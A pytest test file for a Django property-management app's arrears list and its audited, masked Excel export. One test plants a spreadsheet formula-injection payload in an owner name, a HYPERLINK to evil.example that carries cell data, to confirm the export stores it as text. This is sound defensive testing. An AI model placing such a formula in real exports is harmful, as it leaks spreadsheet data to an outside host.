"""The arrears list (欠费清单) page and its export, as the collector and the supervisor use
them: one row per owner with ageing buckets, filters, totals, sorting, pages, estate scope;
the export is audited, masked and never runs a formula."""

import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.contrib.auth.models import Permission
from django.utils import timezone
from openpyxl import load_workbook

from wuye.audit.models import AuditEvent
from wuye.collection.models import ArrearsCase
from wuye.collection.services.policies import policy_default
from wuye.registry.models import Building, Party, Unit, UnitParty

from .books import charge

pytestmark = pytest.mark.django_db


def _ago(days: int):
    return timezone.localdate() - timedelta(days=days)


@pytest.fixture
def books(estate, unit, owner):
    """张伟 (1栋 1-1-301) owes 100 for 10 days, 200 for 60 days and 300 for 400 days;
    李娜 (2栋 2-1-101) owes 1000 for 200 days and has a stage-3 dispute case."""
    policy_default(estate=estate)
    charge(unit, owner, "2025-01", "300.00", due=_ago(400))
    charge(unit, owner, "2026-06", "200.00", due=_ago(60))
    charge(unit, owner, "2026-08", "100.00", due=_ago(10))
    building = Building.objects.create(estate=estate, code="2", name="2栋")
    unit2 = Unit.objects.create(
        estate=estate, building=building, number="2-1-101", floor=1, gross_area="100.00"
    )
    li = Party.objects.create(estate=estate, name="李娜", mobile="13900001111")
    UnitParty.objects.create(
        estate=estate, unit=unit2, party=li, start_date=_ago(900), is_payer=True
    )
    charge(unit2, li, "2026-03", "1000.00", due=_ago(200))
    # not overdue yet: not on the list
    charge(unit2, li, "2026-12", "50.00", due=timezone.localdate() + timedelta(days=5))
    return {"zhang": owner, "li": li, "building2": building}


def _body(html: str) -> str:
    return html.split('data-test="arrears"')[1].split("<tbody>")[1].split("</tbody>")[0]


def _totals(html: str) -> str:
    return html.split('data-test="totals"')[1].split("</tr>")[0]


def test_one_row_per_owner_with_buckets_and_totals(client, collector, books):
    client.force_login(collector)
    page = client.get("/collection/arrears/").content.decode()
    body = _body(page)
    assert body.count("<tr>") == 2
    zhang = body.split("张伟")[1].split("</tr>")[0]
    # total, 0-30, 31-90, 91-180, 181-365, over a year; the oldest period
    assert [c.split(">")[-1] for c in zhang.split("</td>")[1:8]] == [
        "1-1-301",
        "600.00",
        "100.00",
        "200.00",
        "0.00",
        "0.00",
        "300.00",
    ]
    assert "2025-01" in zhang
    totals = _totals(page)
    assert "2 owners" in totals and "1,600.00" in totals and "1,000.00" in totals
    # biggest first; sorted by name or oldest on request
    assert body.index("李娜") < body.index("张伟")
    by_oldest = _body(client.get("/collection/arrears/?sort=oldest").content.decode())
    assert by_oldest.index("张伟") < by_oldest.index("李娜")
    by_recent = _body(client.get("/collection/arrears/?sort=-d30").content.decode())
    assert by_recent.index("张伟") < by_recent.index("李娜")


def test_filters_narrow_the_rows_and_the_totals(client, collector, books, estate):
    li_case = ArrearsCase.objects.create(
        estate=estate,
        party=books["li"],
        opened_on=_ago(100),
        stage_number=3,
        reason="dispute",
        status="disputed",
        assignee=collector,
    )
    client.force_login(collector)
    for query, shown, hidden in [
        (f"building={books['building2'].pk}", "李娜", "张伟"),
        ("bucket=d30", "张伟", "李娜"),
        ("bucket=d365", "李娜", "张伟"),
        ("min=700", "李娜", "张伟"),
        ("max=700", "张伟", "李娜"),
        ("min=500&max=700", "张伟", "李娜"),
        ("stage=3", "李娜", "张伟"),
        ("reason=dispute", "李娜", "张伟"),
        (f"collector={collector.pk}", "李娜", "张伟"),
    ]:
        page = client.get(f"/collection/arrears/?{query}").content.decode()
        assert shown in _body(page) and hidden not in _body(page), query
        assert "1 owner" in _totals(page), query
    page = client.get("/collection/arrears/?reason=dispute").content.decode()
    assert f'href="/collection/cases/{li_case.pk}/"' in page  # the row opens the case
    assert "1,000.00" in _totals(page)
    bad = client.get("/collection/arrears/?min=abc")  # said next to the field, with a 400
    assert bad.status_code == 400
    assert "abc is not an amount" in bad.content.decode()
    assert "2 owners" in _totals(bad.content.decode())
    huge = client.get("/collection/arrears/?max=1e40&min=NaN")
    assert huge.status_code == 400 and "2 owners" in _totals(huge.content.decode())


def test_pages_of_rows_keep_the_filters(client, collector, books, monkeypatch):
    from wuye.collection import views_arrears

    monkeypatch.setattr(views_arrears, "PAGE_SIZE", 1)
    client.force_login(collector)
    first = client.get("/collection/arrears/?sort=party").content.decode()
    assert "1 / 2" in first and "?sort=party&page=2" in first
    second = client.get("/collection/arrears/?sort=party&page=2").content.decode()
    assert _body(first) != _body(second)
    assert "2 owners" in _totals(second)  # the totals are of every page


def test_another_estate_is_never_shown_nor_exported(
    client, make_staff, books, estate, other_estate
):
    stranger = make_staff("supervisor", estates=[other_estate])
    client.force_login(stranger)
    page = client.get(f"/collection/arrears/?estate={estate.pk}").content.decode()
    assert "张伟" not in page and "李娜" not in page
    assert client.get(f"/collection/arrears/export.xlsx?estate={estate.pk}").status_code == 404
    assert not AuditEvent.objects.filter(action="export").exists()


def test_a_collector_may_not_export(client, collector, books, estate):
    client.force_login(collector)
    assert 'data-test="export"' not in client.get("/collection/arrears/").content.decode()
    assert client.get(f"/collection/arrears/export.xlsx?estate={estate.pk}").status_code == 403
    assert not AuditEvent.objects.filter(action="export").exists()


def _sheet(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(response.content)).active


def test_the_export_is_audited_masked_and_never_a_formula(client, supervisor, books, estate, unit):
    evil = books["li"]
    evil.name = '=HYPERLINK("http://evil.example/"&A1,"点我")'
    evil.save()
    client.force_login(supervisor)
    response = client.get(f"/collection/arrears/export.xlsx?estate={estate.pk}&sort=party")
    sheet = _sheet(response)
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[2]
    assert header[:4] == ("Owner", "Units", "Mobile", "Total overdue")
    data = {r[0]: r for r in rows[3:-1]}
    # a supervisor (registry.view_pii) sees names, but phones are always masked in a file
    assert data["张伟"][1] == "1-1-301" and data["张伟"][2] == "138****5678"
    assert Decimal(str(data["张伟"][3])) == Decimal("600")
    assert "13812345678" not in response.content.decode("latin-1")
    # the formula is text, not a formula
    cell = next(c for c in sheet.iter_rows(min_row=4) if str(c[0].value).startswith("="))[0]
    assert cell.data_type == "s" and cell.value == evil.name
    assert rows[-1][0] == "Total" and Decimal(str(rows[-1][3])) == Decimal("1600")
    event = AuditEvent.objects.get(action="export")
    assert event.actor == supervisor and event.estate_id == estate.pk
    assert event.after["rows"] == 2 and event.after["phones_masked"] is True
    assert event.after["names_masked"] is False and event.after["filters"]["sort"] == "party"


def test_without_personal_data_rights_names_are_masked_too(client, make_staff, books, estate):
    clerk = make_staff("auditor", estates=[estate])
    clerk.user_permissions.add(Permission.objects.get(codename="export_arrears"))
    clerk = type(clerk).objects.get(pk=clerk.pk)
    client.force_login(clerk)
    page = client.get("/collection/arrears/").content.decode()
    assert "张*" in _body(page) and "张伟" not in _body(page)
    rows = list(
        _sheet(client.get(f"/collection/arrears/export.xlsx?estate={estate.pk}")).iter_rows(
            values_only=True
        )
    )
    names = {r[0] for r in rows[3:-1]}
    assert names == {"张*", "李*"}
    assert AuditEvent.objects.get(action="export").after["names_masked"] is True


def test_the_api_takes_the_amount_range_too(collector, books):
    from rest_framework.test import APIClient

    api = APIClient()
    api.force_authenticate(collector)
    body = api.get("/api/v1/collection/arrears/?min_amount=500&max_amount=700").json()
    assert [r["party_name"] for r in body["results"]] == ["张伟"]
    assert body["totals"]["total"] == "600.00"


def _owners(estate, building, n: int, start: int):
    for i in range(start, start + n):
        unit = Unit.objects.create(
            estate=estate, building=building, number=f"9-1-{i:03d}", floor=1, gross_area="80.00"
        )
        party = Party.objects.create(estate=estate, name=f"业主{i}", mobile=f"1390000{i:04d}")
        UnitParty.objects.create(
            estate=estate, unit=unit, party=party, start_date=_ago(900), is_payer=True
        )
        charge(unit, party, "2026-06", "100.00", due=_ago(60))
        ArrearsCase.objects.create(
            estate=estate, party=party, opened_on=_ago(30), stage_number=2, reason="forgot"
        )


def test_the_page_reads_the_same_number_of_queries_for_more_owners(
    client, collector, estate, building, django_assert_max_num_queries
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    policy_default(estate=estate)
    _owners(estate, building, 2, 1)
    client.force_login(collector)
    client.get("/collection/arrears/")  # warm caches (session, permissions)
    with CaptureQueriesContext(connection) as few:
        client.get("/collection/arrears/")
    _owners(estate, building, 8, 10)
    with django_assert_max_num_queries(len(few.captured_queries)):
        page = client.get("/collection/arrears/").content.decode()
    assert "10 owners" in _totals(page)
    with CaptureQueriesContext(connection) as few_cases:
        client.get("/collection/cases/")
    _owners(estate, building, 8, 30)
    with django_assert_max_num_queries(len(few_cases.captured_queries)):
        client.get("/collection/cases/")
